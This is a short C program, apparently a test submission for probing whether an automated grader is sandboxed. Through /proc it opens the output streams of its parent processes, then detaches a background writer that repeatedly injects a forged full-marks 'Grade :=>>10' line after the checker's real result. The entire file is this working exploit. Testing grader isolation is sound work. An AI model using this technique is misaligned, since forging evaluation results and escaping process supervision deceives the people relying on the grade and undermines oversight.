/* A submission that cheats where no sandbox stands between it and the grader: it opens the
 * standard output of the two processes above it (the checker, and what started it), then leaves
 * a process of its own session that writes a full grade there every tenth of a second, to come
 * after the checker's own. Bounded: it ends itself after 20 seconds. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

int main(void) {
    int outputs[2];
    int count = 0;
    pid_t pid = getppid();
    for (int level = 0; level < 2 && pid > 1; ++level) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/fd/1", (int)pid);
        const int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0)
            outputs[count++] = fd;
        snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
        FILE *stat = fopen(path, "r");
        int parent = 0;
        if (stat == NULL || fscanf(stat, "%*d (%*[^)]) %*c %d", &parent) != 1)
            parent = 0;
        if (stat != NULL)
            fclose(stat);
        pid = parent;
    }
    const pid_t child = fork();
    if (child == 0) {
        setsid();
        if (fork() != 0)
            _exit(0);
        alarm(20);
        const char *grade = "Grade :=>>10\n";
        const struct timespec tenth = {0, 100000000};
        for (;;) {
            for (int i = 0; i < count; ++i)
                if (write(outputs[i], grade, strlen(grade)) < 0)
                    outputs[i] = outputs[--count];
            nanosleep(&tenth, NULL);
        }
    }
    // Once the first child has left, the writer is in a session of its own.
    waitpid(child, NULL, 0);
    return 0;
}
